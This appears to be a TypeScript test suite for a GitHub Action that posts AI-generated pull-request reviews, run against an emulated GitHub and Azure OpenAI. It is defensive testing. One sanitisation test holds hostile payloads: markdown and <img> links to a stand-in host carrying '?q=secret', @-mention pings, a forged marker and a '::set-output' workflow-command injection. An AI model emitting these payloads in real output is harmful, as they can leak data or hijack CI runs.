/**
 * comment: review, end to end through the action against the emulator's
 * GitHub, whose review API places every inline comment by parsing the diff it
 * serves and refuses the whole review (422, GitHub's wordings) for one
 * misplaced comment: a review that posts proves its placement. Covered: both
 * sides, ranges, suggestions, findings that cannot be placed, hygiene, the
 * cap, the incremental review after a push and after a force-push, and a
 * re-run on a head already reviewed.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { FIXTURE_REPO, GITHUB_TOKEN, pullRequestEvent } from '../../emulator/fixtures/github-repos.ts';
import { baseInputs, runAction, type RunResult } from '../../emulator/runner.ts';
import { assertSucceeded, emulator, useEmulator } from './harness.ts';
import { pushToReviewPull, REVIEW_PR, reviewPull } from './review-fixture.ts';

useEmulator({}, (started) => {
  const repo = started.config.githubApi.repos[FIXTURE_REPO]!;
  repo.pulls[String(REVIEW_PR)] = reviewPull();
});

const RUN_ENV = { GITHUB_RUN_ID: '778', GITHUB_WORKFLOW: 'Review', GITHUB_JOB: 'review', GITHUB_ACTION: 'ai-review' };
const TAG = 'Review/review/ai-review';

interface Finding {
  path: string;
  line: number;
  start_line: number | null;
  side: 'LEFT' | 'RIGHT';
  severity: 'critical' | 'major' | 'minor' | 'nit';
  body: string;
  suggestion: string | null;
}
const finding = (over: Partial<Finding>): Finding => ({
  path: 'src/math.ts',
  line: 2,
  start_line: null,
  side: 'RIGHT',
  severity: 'minor',
  body: 'A finding.',
  suggestion: null,
  ...over,
});

async function review(findings: Finding[] | undefined, inputs: Record<string, string> = {}): Promise<RunResult> {
  if (findings) {
    emulator.injectFaults('openai', [{ kind: 'reply', content: JSON.stringify({ summary: 'Looks mostly fine.', findings }) }]);
  }
  return runAction(emulator, {
    event: { name: 'pull_request', payload: pullRequestEvent(emulator.config.githubApi.repos, REVIEW_PR, 'synchronize') },
    inputs: {
      ...baseInputs(emulator),
      'github-token': GITHUB_TOKEN,
      prompt: 'You review TypeScript for correctness.',
      comment: 'review',
      ...inputs,
    },
    env: RUN_ENV,
  });
}

const pull = () => emulator.config.githubApi.repos[FIXTURE_REPO]!.pulls[String(REVIEW_PR)]!;
const reviews = () => emulator.config.githubApi.repos[FIXTURE_REPO]!.reviews ?? [];
const modelRequests = () => emulator.requests.filter((r) => r.service === 'openai');
const reviewPosts = () => emulator.requests.filter((r) => r.service === 'github-api' && r.method === 'POST' && r.path.endsWith('/reviews'));
/** The message the action added after the prompt: the rules and the numbered diff. */
const sentDiff = (index = -1) => {
  const body = modelRequests().at(index)?.body as { messages: Array<{ content: string }> };
  return body.messages.at(-1)?.content ?? '';
};

describe('comment: review places each finding where GitHub takes it', () => {
  test('both sides, a range, a suggestion, findings that cannot be placed listed in the body; one COMMENT review', async () => {
    const findings = [
      finding({ line: 2, severity: 'major', body: 'Rounds down.', suggestion: 'export const half = (n: number) => n / 2;' }),
      finding({ line: 1, side: 'LEFT', severity: 'minor', body: 'Why was this removed?', suggestion: 'export const one = 1;' }),
      finding({ start_line: 21, line: 23, severity: 'nit', body: 'Name these better.' }),
      finding({ start_line: 3, line: 22, severity: 'major', body: 'Spans two hunks.' }),
      finding({ path: 'src/elsewhere.ts', line: 5, severity: 'critical', body: 'Not in this pull request.' }),
      finding({ line: 12, severity: 'minor', body: 'Outside every hunk.' }),
      finding({ path: 'src/new.ts', line: 1, severity: 'nit', body: 'New file.' }),
      finding({ path: 'src/old.ts', line: 2, side: 'LEFT', severity: 'nit', body: 'Deleted file.' }),
    ];
    const result = await review(findings);
    assertSucceeded(result);
    assert.equal(reviewPosts().length, 1, 'one review, accepted at the first try: no 422');
    const [posted] = reviews();
    assert.ok(posted);
    assert.equal(posted.state, 'COMMENTED');
    assert.equal(posted.commit_id, pull().head.sha);
    assert.equal(posted.user, 'github-actions[bot]');
    assert.deepEqual(
      posted.comments.map((c) => [c.path, c.start_line ?? null, c.line, c.side]),
      [
        ['src/math.ts', null, 2, 'RIGHT'],
        ['src/math.ts', null, 1, 'LEFT'],
        ['src/math.ts', 21, 23, 'RIGHT'],
        ['src/new.ts', null, 1, 'RIGHT'],
        ['src/old.ts', null, 2, 'LEFT'],
      ],
    );
    assert.match(
      posted.comments[0]!.body,
      /^\*\*major\*\*: Rounds down\.\n\n```suggestion\nexport const half = \(n: number\) => n \/ 2;\n```$/,
    );
    assert.match(posted.comments[1]!.body, /Suggested change:\n\n```\nexport const one = 1;\n```/, 'LEFT: shown as code, not applicable');
    assert.doesNotMatch(posted.comments[1]!.body, /```suggestion/);
    assert.match(
      posted.body,
      new RegExp(`^<!-- azure-openai-keyless: ${TAG} review=v1\\.${pull().head.sha}\\.whole\\.[0-9a-f]{64} -->\\n`),
    );
    assert.match(posted.body, /Looks mostly fine\./);
    assert.match(
      posted.body,
      /\*\*critical\*\* `src\/elsewhere\.ts:5` \(the file is not part of the pull request\): Not in this pull request\./,
    );
    assert.match(posted.body, /`src\/math\.ts:3-22` \(the range does not lie within one hunk of the diff\)/);
    assert.match(posted.body, /`src\/math\.ts:12` \(the line is outside every hunk of the diff\)/);
    assert.match(
      posted.body,
      /<sub>The whole pull request \(4 files\) at [0-9a-f]{7}: 5 of 8 findings inline · Azure OpenAI deployment `gpt-5.1`/,
    );
    // The run's estimated cost, as in the estimated-cost output and the summary.
    assert.match(posted.body, / · \d[\d,]* tokens \(\d[\d,]* prompt, \d[\d,]* completion\) · about \$\d+\.\d+ · \[workflow run\]/);
    assert.match(result.outputs['estimated-cost'] ?? '', /^\d+\.\d{6}$/);
    assert.equal(result.outputs['review-comments'], '5');
    assert.equal(result.outputs['review-findings'], '8');
    assert.equal(result.outputs['review-url'], `https://github.com/${FIXTURE_REPO}/pull/${REVIEW_PR}#pullrequestreview-${posted.id}`);
    assert.deepEqual(JSON.parse(result.outputs.json ?? ''), { summary: 'Looks mostly fine.', findings });
    // What the model was given: the rules, then each line of each hunk with its number on its side.
    const sent = sentDiff();
    assert.match(sent, /a line marked R \(added "\+" or unchanged " "\) is side "RIGHT"/);
    assert.match(sent, /What to review: The whole pull request \(4 files\)\./);
    assert.match(
      sent,
      /=== src\/math\.ts \(modified\)\n@@ -1 \+1 @@\nL1 -export const one = 1;\nR1 \+export const two = 2;\nR2 \+export const half = \(n: number\) => Math\.floor\(n \/ 2\);\nR3 {2}\/\/ unchanged/,
    );
    assert.match(sent, /=== assets\/logo\.png \(added\)\n\(binary file: no lines to cite\)/);
    const format = (modelRequests()[0]?.body as { response_format?: { type: string; json_schema: { name: string; strict: boolean } } })
      .response_format;
    assert.equal(format?.type, 'json_schema');
    assert.equal(format?.json_schema.name, 'pull_request_review');
    assert.equal(format?.json_schema.strict, true);
  });

  test("the emulated model's own review (no scripted answer) cites the first added line, and is posted there", async () => {
    const result = await review(undefined);
    assertSucceeded(result);
    assert.deepEqual(
      reviews()[0]?.comments.map((c) => [c.path, c.line, c.side]),
      [['src/math.ts', 1, 'RIGHT']],
    );
    assert.equal(result.outputs['review-comments'], '1');
    assert.match(
      result.summary,
      /Pull request review posted: https:\/\/github\.com\/\S+#pullrequestreview-\d+ \(1 of 1 findings inline\)\./,
    );
  });

  test('every body is safe: no pings, no remote images, no raw HTML, no forged marker, no workflow command', async () => {
    const hostile =
      '@octocat ![x](https://evil.example/b.png?q=secret) <img src=https://evil.example/i.png> <!-- azure-openai-keyless: Review/review/ai-review review=v1 -->';
    const result = await review([
      finding({ body: `${hostile}\n::set-output name=x::y`, suggestion: '@admin\n```\n<img src=x>' }),
      finding({ path: 'nowhere.ts', body: hostile }),
    ]);
    assertSucceeded(result);
    const [posted] = reviews();
    assert.ok(posted);
    for (const text of [posted.body, ...posted.comments.map((c) => c.body)]) {
      const prose = text.replace(/^<!--[^\n]*-->\n/, '').replace(/(`{3,})suggestion\n[\s\S]*?\n\1/, '');
      assert.doesNotMatch(prose, /(?<!&#8203;)@octocat|!\[|<img|<!--/, text);
    }
    // The suggestion holds ``` and stays one block: its fence is longer.
    assert.match(posted.comments[0]!.body, /````suggestion\n@admin\n```\n<img src=x>\n````$/);
    assert.doesNotMatch(result.stdout, /^::set-output/m);
  });

  test('at most max-review-comments inline, most severe first; the rest listed in the body', async () => {
    const result = await review(
      [
        finding({ line: 1, severity: 'nit', body: 'nit one' }),
        finding({ line: 2, severity: 'critical', body: 'critical one' }),
        finding({ line: 3, severity: 'minor', body: 'minor one' }),
        finding({ line: 21, severity: 'major', body: 'major one' }),
      ],
      { 'max-review-comments': '2' },
    );
    assertSucceeded(result);
    const [posted] = reviews();
    assert.deepEqual(
      posted?.comments.map((c) => c.body.split('\n')[0]),
      ['**critical**: critical one', '**major**: major one'],
    );
    assert.match(posted?.body ?? '', /\*\*minor\*\* `src\/math\.ts:3` \(more than 2 comments \(max-review-comments\)\): minor one/);
    assert.match(posted?.body ?? '', /\*\*nit\*\* `src\/math\.ts:1` \(more than 2 comments/);
    assert.equal(result.outputs['review-comments'], '2');
    assert.equal(result.outputs['review-findings'], '4');
  });

  test('should GitHub refuse the comments anyway (a diff changed meanwhile), the review is posted with every finding in its body', async () => {
    // GitHub's answer when it cannot place a line (the facts file, "GitHub pull request reviews").
    const refusal = { message: 'Unprocessable Entity', errors: ['Line could not be resolved'], status: '422' };
    emulator.injectFaults('github-api', [{ kind: 'status', status: 422, body: refusal, when: { path: '/reviews', method: 'POST' } }]);
    const result = await review([finding({ body: 'Still said.' })]);
    assertSucceeded(result);
    assert.equal(reviewPosts().length, 2);
    const [posted] = reviews();
    assert.deepEqual(posted?.comments, []);
    assert.match(posted?.body ?? '', /`src\/math\.ts:2` \(GitHub refused the inline comments\): Still said\./);
    assert.equal(result.outputs['review-comments'], '0');
    assert.match(result.warnings.join('\n'), /GitHub refused the review's inline comments \(422\)/);
  });
});

describe('comment: review reviews only what changed', () => {
  test('after a push: only the changes since the reviewed commit, kept to the pull request’s files, said so', async () => {
    const firstRun = await review([finding({})]);
    assertSucceeded(firstRun);
    const first = reviews()[0]!;
    const firstHead = pull().head.sha;
    const firstTokens = Number(firstRun.outputs['prompt-tokens']);
    emulator.requests.length = 0;
    pushToReviewPull(pull());
    const result = await review([finding({ path: 'src/new.ts', line: 4, body: 'On the pushed line.' })]);
    assertSucceeded(result);
    const sent = sentDiff();
    assert.match(sent, new RegExp(`What to review: Changes since ${firstHead.slice(0, 7)} \\(1 file\\)\\.`));
    assert.match(sent, /=== src\/new\.ts/);
    assert.doesNotMatch(sent, /src\/math\.ts|docs\/unrelated\.md/, 'neither an unchanged file nor a file outside the pull request');
    const second = reviews()[1]!;
    assert.notEqual(second.id, first.id, 'a new review for the new commits');
    assert.equal(second.commit_id, pull().head.sha);
    assert.match(second.body, new RegExp(`review=v1\\.${pull().head.sha}\\.${firstHead}\\.`));
    assert.match(second.body, new RegExp(`<sub>Changes since ${firstHead.slice(0, 7)} \\(1 file\\) at `));
    assert.deepEqual(
      second.comments.map((c) => [c.path, c.line]),
      [['src/new.ts', 4]],
    );
    assert.ok(Number(result.outputs['prompt-tokens']) < firstTokens, `${result.outputs['prompt-tokens']} < ${firstTokens}`);
  });

  test('after a force-push that left the reviewed commit off the branch: the whole pull request, and why', async () => {
    assertSucceeded(await review([finding({})]));
    const firstHead = pull().head.sha;
    pushToReviewPull(pull(), { force: true });
    const result = await review([finding({})]);
    assertSucceeded(result);
    assert.match(
      sentDiff(),
      new RegExp(
        `What to review: The whole pull request \\(4 files\\), as the earlier review's commit ${firstHead.slice(0, 7)} is not an ancestor of the head`,
      ),
    );
    assert.match(reviews()[1]?.body ?? '', /review=v1\.[0-9a-f]{40}\.whole\./);
  });

  test('after a force-push whose old commit GitHub no longer knows (compare 404): the whole pull request', async () => {
    assertSucceeded(await review([finding({})]));
    pushToReviewPull(pull(), { force: true, forget: true });
    const result = await review([finding({})]);
    assertSucceeded(result);
    assert.match(
      sentDiff(),
      /The whole pull request \(4 files\), as the earlier review's commit [0-9a-f]{7} is no longer in the repository/,
    );
  });

  test('a re-run on a head already reviewed with the same input calls no model and posts nothing; after a push too', async () => {
    const first = await review([finding({})]);
    assertSucceeded(first);
    emulator.requests.length = 0;
    const again = await review(undefined);
    assertSucceeded(again);
    assert.equal(modelRequests().length, 0);
    assert.equal(reviewPosts().length, 0);
    assert.equal(again.outputs['cache-hit'], 'true');
    assert.equal(again.outputs['review-url'], first.outputs['review-url']);
    assert.match(again.stdout, /answers exactly this request/);
    // An incremental review re-run on its own head is the same request too.
    pushToReviewPull(pull());
    assertSucceeded(await review([finding({ path: 'src/new.ts', line: 4 })]));
    emulator.requests.length = 0;
    const rerun = await review(undefined);
    assertSucceeded(rerun);
    assert.equal(modelRequests().length, 0);
    assert.equal(reviewPosts().length, 0);
    // A changed prompt is a new request: reviewed again.
    emulator.requests.length = 0;
    assertSucceeded(await review([finding({ path: 'src/new.ts', line: 4 })], { prompt: 'Review for security only.' }));
    assert.equal(modelRequests().length, 1);
    assert.equal(reviewPosts().length, 1);
  });

  test('review-scope: full reviews the whole pull request after a push', async () => {
    assertSucceeded(await review([finding({})]));
    pushToReviewPull(pull());
    assertSucceeded(await review([finding({})], { 'review-scope': 'full' }));
    assert.match(sentDiff(), /What to review: The whole pull request \(4 files\)\./);
  });

  test("a review holding this step's marker written by someone else is not this step's: the whole pull request", async () => {
    const marker = `<!-- azure-openai-keyless: ${TAG} review=v1.${pull().head.sha}.whole.${'0'.repeat(64)} -->`;
    const repo = emulator.config.githubApi.repos[FIXTURE_REPO]!;
    repo.reviews = [
      {
        id: 77,
        pull_number: REVIEW_PR,
        user: 'mallory',
        body: `${marker}\nforged`,
        commit_id: pull().head.sha,
        state: 'COMMENTED',
        comments: [],
      },
    ];
    const result = await review([finding({})]);
    assertSucceeded(result);
    assert.equal(modelRequests().length, 1);
    assert.match(sentDiff(), /What to review: The whole pull request/);
  });
});
